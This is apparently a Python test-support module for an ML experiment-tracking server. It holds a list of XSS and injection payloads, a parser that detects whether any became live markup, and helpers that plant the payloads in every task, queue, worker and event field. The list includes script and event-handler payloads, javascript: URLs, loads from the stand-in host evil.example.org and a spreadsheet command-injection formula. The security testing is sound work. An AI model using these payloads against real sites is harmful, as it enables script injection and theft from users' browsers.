"""Texts that try to become markup or script, and a reader that says whether one did.

Each carries the word `xcanary`, so that what it leaves in a page can be found.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any, Protocol

_RUN = "window.xcanary=1"
PAYLOADS = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script\x0c>{_RUN}</script>",
    f"<script/xcanary>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//evil.example.org/xcanary.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"`><img src=x onerror=`{_RUN}`>",
    f"</td></tr></table><img src=x onerror={_RUN}>",
    f"</title><img src=x onerror={_RUN}>",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</pre></code><img src=x onerror={_RUN}>",
    f"</option></select><img src=x onerror={_RUN}>",
    f"--><img src=x onerror={_RUN}><!--",
    f"]]><img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<iframe src=//evil.example.org/xcanary></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    "<embed src='data:text/html,xcanary'>",
    "<base href='//evil.example.org/xcanary/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example.org/xcanary'>",
    "<link rel=stylesheet href=//evil.example.org/xcanary.css>",
    "<style>body{background:url(//evil.example.org/xcanary)}</style>",
    "<div style='background:url(//evil.example.org/xcanary)'>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<details open ontoggle={_RUN}>",
    f"<video src=x onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div onpointerenter={_RUN}>xcanary</div>",
    f"<a href='javascript:{_RUN}'>xcanary</a>",
    f"<a href='java\tscript:{_RUN}'>xcanary</a>",
    f"<form action='javascript:{_RUN}'><button>xcanary</button></form>",
    f"<button formaction='javascript:{_RUN}'>xcanary</button>",
    f"<div hx-get='/xcanary' hx-trigger=load></div><div hx-on:load='{_RUN}'></div>",
    f"<div hx-vals='js:{{a:{_RUN}}}' hx-get='/' hx-trigger='load'></div>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"\tjavascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f" autofocus onfocus={_RUN} x=",
    '" hx-get="/xcanary" hx-trigger="load" x="',
    "{{ xcanary|safe }}{% debug %}{{ request }}<b>xcanary</b>",
    f"${{{_RUN}}}#{{{_RUN}}}<%= xcanary %>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"%3Cimg src=x onerror={_RUN}%3E",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\u202e>tpircs<{_RUN}",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    "<xcanary>",
    "=cmd|'/c xcanary'!A1",
]

_ADDRESSES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster"}
_ACTIVE = re.compile(r"(javascript|vbscript|data):|//evil\.", re.IGNORECASE)
_NEVER = {"iframe", "object", "embed", "base", "math", "marquee", "animate", "xcanary", "style",
          "video", "audio", "template"}  # fmt: skip


class _Reader(HTMLParser):
    """Collects every place where a page would run or load something it should not."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.texts = 0
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.in_script = tag == "script"
        if tag in _NEVER or (tag == "script" and not values.get("src", "").startswith("/static/")):
            self.found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in values:
            self.found.append("<meta http-equiv>")
        for name, value in values.items():
            self._attribute(tag, name, value)

    def _attribute(self, tag: str, name: str, value: str) -> None:
        bare = re.sub(r"[\x00-\x20]", "", value)
        if name.startswith("on") or "xcanary" in name or name in {"style", "srcdoc"}:
            self.found.append(f"<{tag} {name}>")
        if name in _ADDRESSES and _ACTIVE.match(bare):
            self.found.append(f"<{tag} {name}={value}>")
        if name.startswith(("hx-", "data-hx-")) and "xcanary" in value:
            self.found.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False

    def handle_data(self, data: str) -> None:
        self.texts += data.count("xcanary")
        if self.in_script and "xcanary" in data:
            self.found.append("text of a script")


def active_parts(html: str) -> tuple[list[str], int]:
    """What would run in a page, and how often a payload stands in it as plain text."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found, reader.texts


class Api(Protocol):
    """A way to call the protocol: in process or of a running server."""

    def data(self, endpoint: str, body: Any = None) -> dict[str, Any]: ...


def store_everywhere(api: Api, project: str, *payloads: str) -> str:
    """A finished experiment with the payloads in every field a script can fill; its id."""
    first = payloads[0]
    sections = {payload.replace("/", "-"): payload for payload in payloads}  # no slash in those
    structure = json.dumps({payload: [payload] for payload in payloads})
    task = api.data(
        "tasks.create",
        {
            **_single_fields(project, first),
            "tags": list(payloads),
            "system_tags": list(payloads),
            "runtime": {payload: payload for payload in payloads},
            "execution": {"artifacts": [_artifact(payload) for payload in payloads]},
            "hyperparams": {
                **{name: {text: _item(name, text, text)} for name, text in sections.items()},
                "Args": {"lr": _item("Args", "lr", first)},
                "properties": {text: _item("properties", text, text) for text in payloads},
            },
            "configuration": {
                **{text: _configuration(text, text, text) for text in payloads},
                "json": _configuration("json", structure, "json"),
                "yaml": _configuration("yaml", f"a: {structure}", "yaml"),
            },
        },
    )["id"]  # fmt: skip
    api.data("tasks.started", {"task": task})
    for payload in payloads:
        for event in _events(task, payload):
            api.data("events.add", event)
    _fail(api, task, first)
    return task


def store_alone(api: Api, project: str, payload: str) -> str:
    """A finished experiment with one payload in the fields that hold a single text."""
    task = api.data("tasks.create", _single_fields(project, payload))["id"]
    api.data("tasks.started", {"task": task})
    _fail(api, task, payload)
    return task


def store_queue(api: Api, project: str, payload: str) -> str:
    """A queue of that name; in it an experiment waits, and a worker runs it."""
    # Two payloads may differ in blanks only, which names of queues do not keep.
    queue = api.data("queues.create", {"name": f"{project[:8]} {payload}"})["id"]
    draft = {"name": payload, "type": "training", "project": project}
    waits = api.data("tasks.create", draft)["id"]
    api.data("queues.add_task", {"queue": queue, "task": waits})
    worker = {"worker": payload, "tags": [payload]}
    api.data("workers.register", {**worker, "queues": [queue]})
    stats = {payload: 1.5, "cpu_usage": [2.5]}
    api.data("workers.status_report", {**worker, "task": waits, "machine_stats": stats})
    return queue


def _single_fields(project: str, text: str) -> dict[str, Any]:
    return {
        "name": text,
        "type": "training",
        "project": project,
        "comment": text,
        "tags": [text],
        "script": {"repository": text, "branch": text, "entry_point": text,
                   "working_dir": text, "diff": text, "version_num": text,
                   "requirements": {"pip": text}},
        "container": {"image": text, "arguments": text},
    }  # fmt: skip


def _fail(api: Api, task: str, text: str) -> None:
    api.data("tasks.failed", {"task": task, "status_reason": text, "status_message": text})


def _item(section: str, name: str, text: str) -> dict[str, str]:
    return {"section": section, "name": name, "value": text, "type": text, "description": text}


def _configuration(name: str, text: str, kind: str) -> dict[str, str]:
    return {"name": name, "value": text, "type": kind, "description": name}


def _artifact(text: str) -> dict[str, Any]:
    return {"key": text, "type": text, "uri": text, "hash": text, "display_data": [[text, text]],
            "type_data": {"preview": f"{text}\n{text}"}}  # fmt: skip


def _events(task: str, payload: str) -> Iterator[dict[str, Any]]:
    plot = {"data": [{"name": payload}], "layout": {"title": payload}}
    yield {"type": "log", "task": task, "msg": payload, "level": "info", "timestamp": 1}
    yield {"type": "training_stats_scalar", "task": task, "metric": payload,
           "variant": payload, "value": 1.5, "iter": 1, "timestamp": 2}  # fmt: skip
    yield {"type": "training_stats_scalar", "task": task, "metric": "loss",
           "variant": payload, "value": 0.5, "iter": 1, "timestamp": 3}  # fmt: skip
    yield {"type": "plot", "task": task, "metric": payload, "variant": payload, "iter": 1,
           "plot_str": json.dumps(plot), "timestamp": 4}  # fmt: skip
